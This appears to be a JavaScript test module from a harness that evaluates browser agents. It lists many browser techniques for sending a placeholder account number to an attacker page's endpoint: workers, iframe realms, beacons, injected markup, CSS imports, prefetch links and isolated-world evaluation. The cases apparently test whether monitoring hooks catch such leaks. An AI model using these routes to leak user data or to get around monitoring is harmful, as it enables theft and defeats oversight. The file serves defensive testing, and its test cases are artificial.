// Group 6 on the attacker's own page, where no hook is: other realms than the page's own, and addresses that no script sets.
import { urlOf } from '../sites/world.mjs';

const PRELUDE = `const D = '{account number}', E = encodeURIComponent(D), U = location.origin + '/r?d=' + E;
const quote = JSON.stringify, markup = (text) => document.body.insertAdjacentHTML('beforeend', text);
const post = (body) => 'fetch(' + quote(location.origin + '/r') + ', { method: \\'POST\\', body: ' + body + ' })';
const worker = (code) => new Worker(URL.createObjectURL(new Blob([code])));
const realm = () => document.body.appendChild(Object.assign(document.createElement('iframe'), { srcdoc: 'x' })).contentWindow;`;

const WAYS = {
  'worker-fetch': "worker('fetch(' + quote(U) + ')')",
  'worker-body': 'worker(post(quote(D)))',
  'worker-form': "worker('const f = new FormData(); f.append(\\'d\\', ' + quote(D) + '); ' + post('f'))",
  'worker-socket': "worker('new WebSocket(' + quote(U.replace('http', 'ws')) + ')')",
  'worker-import': "worker('importScripts(' + quote(U.replace('/r', '/r.js')) + ')')",
  'shared-worker': "new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + quote(U) + ')'])))",
  'service-worker':
    "const r = await navigator.serviceWorker.register('/sw.js'); await navigator.serviceWorker.ready; r.active.postMessage(U)",
  'fresh-frame': 'realm().fetch(U, { keepalive: true })',
  'fresh-frame-body': "realm().fetch(location.origin + '/r', { method: 'POST', body: D, keepalive: true })",
  'fresh-frame-beacon': "realm().navigator.sendBeacon(location.origin + '/r', D)",
  'markup-image': "markup('<img src=' + quote(U) + '>')",
  'markup-frame': "markup('<iframe src=' + quote(U) + '></iframe>')",
  'markup-form':
    "markup('<form method=post action=/r><input name=d value=' + quote(D) + '></form>'); realm().HTMLFormElement.prototype.submit.call(document.body.lastChild.previousSibling)",
  'style-sheet': "markup('<style>body { background: url(' + quote(U) + ') }</style>')",
  'style-import': "markup('<style>@import ' + quote(U.replace('/r', '/r.css')) + '</style>')",
  import: "await import(U.replace('/r', '/r.js'))",
  prefetch: "markup('<link rel=prefetch href=' + quote(U) + '>')",
};

/** What an agent's tool evaluates in a world of its own. */
export async function inOwnWorld({ page, context }, expression) {
  const protocol = await context.newCDPSession(page);
  const { frameTree } = await protocol.send('Page.getFrameTree');
  const world = await protocol.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id, worldName: 'tool' });
  await protocol.send('Runtime.evaluate', { expression, contextId: world.executionContextId, awaitPromise: true });
  await protocol.detach();
}

const asAttack = (id, send) => ({
  id: `unhooked-${id}`,
  group: 6,
  async does(scene) {
    await scene.hands.goto(urlOf('attacker', '/verify'));
    await send(scene);
    await scene.hands.wait(700);
  },
});

export const unhooked = [
  ...Object.entries(WAYS).map(([id, code]) =>
    asAttack(id, ({ filled }) => filled.run(`(async () => { ${PRELUDE}\n${code}\n })().catch(() => {})`)),
  ),
  asAttack('own-world', ({ hands, filled }) =>
    inOwnWorld(hands, filled.text("fetch('/r?d=' + encodeURIComponent('{account number}')).catch(() => 0)")),
  ),
  asAttack('own-world-body', ({ hands, filled }) =>
    inOwnWorld(hands, filled.text("fetch('/r', { method: 'POST', body: '{account number}' }).catch(() => 0)")),
  ),
];
